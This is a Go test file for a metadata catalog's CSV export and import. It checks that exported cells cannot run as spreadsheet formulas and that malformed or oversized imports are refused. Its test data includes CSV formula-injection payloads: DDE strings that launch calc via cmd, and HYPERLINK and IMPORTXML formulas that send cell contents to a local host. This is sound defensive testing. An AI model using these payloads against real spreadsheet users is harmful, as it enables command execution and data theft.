//go:build !race

package api

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/catalpa-metadata/catalpa/internal/csvio"
)

// formulas are texts that spreadsheets run, or that make them start programs.
func formulas() []string {
	return []string{
		"=1+1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"click\")", "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/\",A1),\"//a\")",
		"+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=\"a,b\"&CHAR(10)", "=1\r\n=2", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uFEFF=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
		"'=1+1", "''=1+1", "=", "-",
	}
}

// harmless wants that no cell of a file is one that a spreadsheet would run, and returns
// all cells without the mark that keeps them from being run.
func harmless(t *testing.T, what, file string) map[string]bool {
	t.Helper()
	reader := csv.NewReader(strings.NewReader(file))
	reader.FieldsPerRecord = -1
	records, err := reader.ReadAll()
	if err != nil {
		t.Fatalf("%s cannot be read: %v", what, err)
	}
	cells := map[string]bool{}
	for _, record := range records {
		for _, cell := range record {
			if bare := strings.TrimLeft(cell, " \u00a0\u3000\u200b\uFEFF"); bare != "" && strings.IndexAny(bare, "=+-@\t\r\n＝＋－＠") == 0 {
				t.Errorf("%s holds the cell %q, which a spreadsheet runs", what, cell)
			}
			cells[strings.TrimPrefix(cell, "'")] = true
		}
	}
	return cells
}

// TestT69FormulasAreNeutralized: whatever people write into the catalog, the files that
// it is exported to hold no cell that a spreadsheet would run; imported again, the texts
// are what they were.
func TestT69FormulasAreNeutralized(t *testing.T) {
	h := newHarness(t)
	h.populate()
	shown := map[string]bool{}
	for i, text := range formulas() {
		term := map[string]any{"name": fmt.Sprintf("t%d", i), "glossary": "Words", "displayName": text, "description": text}
		if !strings.ContainsAny(text, "\r\n") { // which a synonym may not hold
			term["synonyms"] = []string{text}
		}
		h.do("PUT", "/glossaryTerms", term, 201)
		h.do("PUT", "/tables", map[string]any{"name": fmt.Sprintf("t%d", i), "databaseSchema": "shop.db.public", "displayName": text, "description": text, "columns": []map[string]any{{"name": "c", "dataType": "INT", "description": text, "displayName": text, "dataTypeDisplay": text}}}, 201)
		got := h.do("GET", fmt.Sprintf("/tables/name/shop.db.public.t%d", i), nil, 200)
		shown[got.at("displayName")], shown[got.at("description")] = true, true
		if strings.ContainsAny(text, "\r\n\t") {
			continue // no name may hold them
		}
		h.do("PUT", "/glossaryTerms", map[string]any{"name": text, "glossary": "Words", "description": "d"}, 201)
		h.do("PUT", "/tables", map[string]any{"name": text, "databaseSchema": "shop.db.public", "columns": []map[string]any{{"name": text, "dataType": "INT"}}}, 201)
		h.do("PUT", "/drives/directories", map[string]any{"name": text, "service": "drive", "description": text}, 201)
	}
	before := h.lastSeq()
	everything := map[string]bool{}
	for name, file := range files() {
		got := h.do("GET", file.path+"/export"+file.param, nil, 200)
		for cell := range harmless(t, "the export of "+name, string(got.body)) {
			everything[cell] = true
		}
		for _, dryRun := range []bool{true, false} {
			result := h.imported(h.admin, file.path+"/import"+file.param, string(got.body), dryRun)
			harmless(t, "the result for "+name, result.Rows)
			if result.Status != "success" {
				t.Errorf("the export of %s is imported with %s: %s%.2000s", name, result.Status, result.AbortReason, result.Rows)
			}
		}
	}
	for text := range shown {
		if !everything[strings.ReplaceAll(text, "\r\n", "\n")] { // as the reader of CSV makes it
			t.Errorf("no export holds %q, so that nothing is proved of it", text)
		}
	}
	if after := h.lastSeq(); after != before {
		t.Errorf("importing what was exported changed %d things", after-before)
	}
	h.do("POST", "/services/databaseServices", `{"name":"=cmd|calc","serviceType":"Mysql"}`, 201)
	h.do("PUT", "/databases", `{"name":"db","service":"=cmd|calc"}`, 201)
	h.do("PUT", "/databaseSchemas", `{"name":"s","database":"=cmd|calc.db"}`, 201)
	h.link(h.table("=cmd|calc.db.s", "t", "id"), h.table("shop.db.public", "to", "id"), columnLineage("shop.db.public.to.id", "=cmd|calc.db.s.t.id"))
	edges := harmless(t, "the export of lineage", string(h.do("GET", "/lineage/export?fqn=shop.db.public.to&type=table&upstreamDepth=1&downstreamDepth=1", nil, 200).body))
	if !edges["=cmd|calc.db.s.t"] || !edges["=cmd|calc.db.s.t.id"] {
		t.Errorf("the export of lineage holds no formula, so that nothing is proved: %v", edges)
	}
}

// TestT69HostileImports: files that are none, that are too large or do not say what they
// should are turned down with a reason, row by row where rows can be told apart.
func TestT69HostileImports(t *testing.T) {
	h := newHarness(t)
	h.populate()
	x := h.attacked()
	hostile := map[string]string{
		"only a mark": "\uFEFF", "only line ends": "\r\n\r\n\r\n", "NUL": "name*\nx\x00y\n", "invalid UTF-8": "name*\n\xff\xfe\n", "UTF-16": "\xff\xfen\x00a\x00m\x00e\x00\n\x00", "an open quote": "name*\n\"x\n" + strings.Repeat("y\n", 1000),
		"text after a quote": "name*\n\"x\"y\n", "unknown columns": "frob,name*\nx,y\n", "columns twice": "name*,name*\nx,y\n", "no columns": ",,,\n,,,\n", "a wide header": strings.Repeat("name*,", 10_000) + "\n", "HTML": "<html><body>name*</body></html>",
		"JSON": `{"name":"x"}`, "a wide row": "name*\n" + strings.Repeat("x,", 199) + "\n", "quotes without end": "name*\n" + strings.Repeat(`"`, 99_999), "a formula as header": "=cmd|' /C calc'!A0\nx\n", "two marks": "\uFEFF\uFEFFname*\nx\n",
		"carriage returns": "na\rme*\rx\ry\r", "a column of the server's": "name*,id,isAdmin,password\nx,1,true,secret\n",
	}
	refuse := func(what, method, path, file string) {
		t.Helper()
		for _, dryRun := range []bool{true, false} {
			for _, who := range []caller{h.admin, h.nobody} {
				join := "?"
				if strings.Contains(path, "?") {
					join = "&"
				}
				got := x.refused(h.text(who, method, fmt.Sprintf("%s%sdryRun=%t", path, join, dryRun), file), 200, 400, 403, 413)
				if got.status != http.StatusOK {
					continue
				}
				var result csvio.Result
				got.into(&result)
				if result.Status == "success" || result.Failed == 0 || result.AbortReason == "" && !strings.Contains(result.Rows, "failure,") {
					t.Errorf("%s at %s by %s: %.500s", what, path, who.name, got.body)
				}
				harmless(t, "the result of "+what, result.Rows)
			}
		}
	}
	for name, file := range files() {
		method := "PUT"
		if name == "directories" {
			method = "POST"
		}
		for what, content := range hostile {
			refuse(what, method, file.path+"/import"+file.param, content)
		}
	}
	const terms = "/glossaries/name/Words/import"
	for what, file := range map[string]string{
		"a million rows":          "name*,description\n" + strings.Repeat("a,b\n", 1_000_000),
		"twenty million cells":    "parent,name*,description\n" + strings.Repeat(strings.Repeat(",", 199)+"\n", 100_000),
		"wide rows":               "parent,name*,description\n" + strings.Repeat(strings.Repeat(",", 199)+"\n", 9_000),
		"a cell of 5 MB":          "name*,description\nx," + strings.Repeat("y", 5<<20) + "\n",
		"a million references":    "name*,description,relatedTerms\nx,d," + strings.Repeat("Words.None;", 300_000) + "\n",
		"a million quotes":        "name*,description,synonyms\n,d," + strings.Repeat(`""";`, 300_000) + "\n",
		"a million open brackets": "name*,description,extension\nx,d," + strings.Repeat("[", 1_000_000) + "\n",
	} {
		if grown := growth(func() { refuse(what, "PUT", terms, file) }); grown > 2*maxGrowth {
			t.Errorf("%s made the heap grow by %d MiB", what, grown>>20)
		}
	}
	x.over()
}
